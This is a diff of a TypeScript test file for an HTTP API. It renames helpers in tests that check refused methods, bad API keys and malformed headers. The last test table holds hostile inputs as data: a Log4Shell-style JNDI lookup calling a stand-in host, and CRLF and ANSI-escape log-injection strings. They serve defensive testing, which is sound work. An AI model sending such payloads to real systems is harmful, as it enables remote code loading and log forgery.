@@ -1,12 +1,12 @@
 import { connect } from 'node:net';
 import { text } from 'node:stream/consumers';
-import { startTcpGate } from '@firmlens/testkit';
+import { startTcpProxy } from '@firmlens/testkit';
 import { type Caller, openAccount, openKey } from '../support/accounts';
 import { completeBatch } from '../support/batches';
 import { exchange, type RawAnswer, type RawRequest } from '../support/raw-http';
-import { refused } from '../support/refused';
+import { expectRefusal } from '../support/expect-refusal';
 import { type Api, newDomain, startApi, WEBHOOK } from '../support/start-api';
-import { type Ask, watch } from '../support/watched';
+import { type Ask, watchQueries } from '../support/watch-queries';
 
 let api: Api;
 let caller: Caller;
@@ -17,7 +17,7 @@ beforeAll(async () => {
   api = await startApi();
   caller = await openAccount(api.db);
   await completeBatch(api.db, caller, 'fresh.example');
-  ask = watch(api, caller);
+  ask = watchQueries(api, caller);
   slow = sendSlowly();
 });
 afterAll(() => api.stop());
@@ -76,20 +76,20 @@ describe('methods', () => {
   ])('63  %s %s is refused, and told what is allowed', async (method, path, allow) => {
     const answer = await ask({ method, path, headers: [webhook] });
     expect(answer).toMatchObject({
-      ...(method === 'HEAD' ? { status: 405 } : refused('method_not_allowed')),
+      ...(method === 'HEAD' ? { status: 405 } : expectRefusal('method_not_allowed')),
     });
     expect(answer.headers['allow']).toBe(allow);
   });
 
   test.each([...GET_ENDPOINTS, '/company/acme.com', '/account/webhook'])('64  TRACE %s', async (path) => {
     const answer = await ask({ method: 'TRACE', path });
-    expect(answer).toMatchObject(refused('method_not_allowed'));
+    expect(answer).toMatchObject(expectRefusal('method_not_allowed'));
     expect(answer.text).not.toContain(caller.key);
   });
 
   test.each(['intranet.example:443', '127.0.0.1:5432'])('64  CONNECT %s', async (target) => {
     const answer = await ask({ method: 'CONNECT', target }, { isDocumented: false });
-    expect(answer).toMatchObject(refused('method_not_allowed'));
+    expect(answer).toMatchObject(expectRefusal('method_not_allowed'));
     expect(answer.headers['allow']).toBe('GET, HEAD, POST');
   });
 
@@ -103,7 +103,7 @@ describe('methods', () => {
         headers: [`${name}: GET`, webhook],
         body: '_method=GET',
       };
-      expect(await ask(posted)).toMatchObject(refused('method_not_allowed'));
+      expect(await ask(posted)).toMatchObject(expectRefusal('method_not_allowed'));
     },
   );
 });
@@ -126,7 +126,7 @@ describe('keys', () => {
     [72, 'the key as another scheme', (key) => ({ headers: [`Authorization: Token ${key}`] })],
   ])('%i  %s is missing_api_key', async (_number, _what, request) => {
     expect(await ask({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
-      refused('missing_api_key'),
+      expectRefusal('missing_api_key'),
     );
   });
 
@@ -152,19 +152,19 @@ describe('keys', () => {
     [79, 'a C1 control in it', () => ({ headers: ['X-API-Key: flk_\u009b31m'] })],
   ])('%i  %s is invalid_api_key', async (_number, _what, request) => {
     expect(await ask({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
-      refused('invalid_api_key'),
+      expectRefusal('invalid_api_key'),
     );
   });
 
   test('68  a wrong checksum is told without the database, which a key that could be right is looked up in', async () => {
-    const gate = await startTcpGate(api.databaseUrl);
+    const gate = await startTcpProxy(api.databaseUrl);
     const second = await startApi({ databaseUrl: gate.url, redisUrl: api.redisUrl });
     await gate.shut();
     expect(await second.get('/account/info', { key: mistyped(caller) })).toMatchObject(
-      refused('invalid_api_key'),
+      expectRefusal('invalid_api_key'),
     );
     const unknown = await openKey(api.db, caller);
-    expect(await second.get('/account/info', unknown)).toMatchObject(refused('internal_error'));
+    expect(await second.get('/account/info', unknown)).toMatchObject(expectRefusal('internal_error'));
     await second.stop();
   });
 
@@ -194,7 +194,7 @@ describe('keys', () => {
 
   test('74  the query is refused to another method', async () => {
     const posted = { method: 'POST', path: `/account/webhook?api_key=${caller.key}`, body: '{}' };
-    expect(await ask(posted, { key: null })).toMatchObject(refused('missing_api_key'));
+    expect(await ask(posted, { key: null })).toMatchObject(expectRefusal('missing_api_key'));
     const head = { method: 'HEAD', path: `/account/info?api_key=${caller.key}` };
     expect(await ask(head, { key: null })).toMatchObject({ status: 401 });
   });
@@ -204,7 +204,7 @@ describe('keys', () => {
     async (forwarded) => {
       const { key } = await openKey(api.db, caller, { allowIps: ['192.0.2.0/24'] });
       const headers = [`X-Forwarded-For: ${forwarded}`, `X-Real-IP: 192.0.2.1`, `Forwarded: for=192.0.2.1`];
-      expect(await ask({ ...INFO, headers }, { key })).toMatchObject(refused('ip_not_allowed'));
+      expect(await ask({ ...INFO, headers }, { key })).toMatchObject(expectRefusal('ip_not_allowed'));
     },
   );
 });
@@ -219,8 +219,8 @@ describe('what is asked for before the key is known to be good', () => {
     ['the retired mode', '/company/acme.com?mode=cached'],
     ['enrich twice', '/company/acme.com?enrich=a&enrich=b'],
   ])('%s is not told', async (_what, path) => {
-    expect(await ask({ path }, { key: null })).toMatchObject(refused('missing_api_key'));
-    expect(await ask({ path }, { key: mistyped(caller) })).toMatchObject(refused('invalid_api_key'));
+    expect(await ask({ path }, { key: null })).toMatchObject(expectRefusal('missing_api_key'));
+    expect(await ask({ path }, { key: mistyped(caller) })).toMatchObject(expectRefusal('invalid_api_key'));
   });
 });
 
@@ -242,7 +242,7 @@ describe('heads', () => {
   test('77  200 header fields', async () => {
     const headers = Array.from({ length: 200 }, (_, index) => `X-${index}: a`);
     expect(await ask({ path: '/health', headers }, { isDocumented: false })).toMatchObject(
-      refused('invalid_parameter'),
+      expectRefusal('invalid_parameter'),
     );
   });
 
@@ -266,7 +266,7 @@ describe('heads', () => {
       { method: 'POST', path: '/account/webhook', ...request },
       { isDocumented: false },
     );
-    expect(answer).toMatchObject(refused('invalid_parameter'));
+    expect(answer).toMatchObject(expectRefusal('invalid_parameter'));
   });
 
   test.each([
@@ -276,7 +276,7 @@ describe('heads', () => {
     ['HTTP/1.1 without a host', 'GET /api/v1/health HTTP/1.1\r\nConnection: close\r\n\r\n'],
   ])('%s gets an error in the one shape', async (_what, bytes) => {
     const answer = await exchange(api.port, bytes);
-    expect(answer).toMatchObject(refused('invalid_parameter'));
+    expect(answer).toMatchObject(expectRefusal('invalid_parameter'));
     expect(answer.headers).toMatchObject({
       'content-type': 'application/json; charset=utf-8',
       'x-request-id': expect.any(String),
@@ -300,14 +300,18 @@ describe('heads', () => {
   });
 
   test.each([
-    ['X-Webhook-URL: https://a/%0d%0a{"level":"error"}', '/company/acme.com', refused('webhook_required')],
-    ['X-Webhook-URL: https://a/\u009b31m', '/company/acme.com', refused('webhook_required')],
+    [
+      'X-Webhook-URL: https://a/%0d%0a{"level":"error"}',
+      '/company/acme.com',
+      expectRefusal('webhook_required'),
+    ],
+    ['X-Webhook-URL: https://a/\u009b31m', '/company/acme.com', expectRefusal('webhook_required')],
     ['X-Request-Id: a\u009b31m', '/account/info', { status: 200 }],
-    ['User-Agent: ${jndi:ldap://evil.example}\u009b31m', '/nothing', refused('not_found')],
-    ['X-A: b', '/company/acme%0a%0d%1b[31m.com', refused('invalid_domain')],
-    ['X-A: b', '/company/acme%0a{"level":"error"}', refused('invalid_domain')],
-    ['X-A: b', '/nothing%0a%1b[31m{"level":"error"}', refused('not_found')],
-    ['X-A: b', '/enrichment/%0a%1b[31m/status', refused('batch_not_found')],
+    ['User-Agent: ${jndi:ldap://evil.example}\u009b31m', '/nothing', expectRefusal('not_found')],
+    ['X-A: b', '/company/acme%0a%0d%1b[31m.com', expectRefusal('invalid_domain')],
+    ['X-A: b', '/company/acme%0a{"level":"error"}', expectRefusal('invalid_domain')],
+    ['X-A: b', '/nothing%0a%1b[31m{"level":"error"}', expectRefusal('not_found')],
+    ['X-A: b', '/enrichment/%0a%1b[31m/status', expectRefusal('batch_not_found')],
   ])('79  %s at %s leaves one line in the log', async (header, path, expected) => {
     expect(await ask({ path, headers: [header] })).toMatchObject(expected);
   });
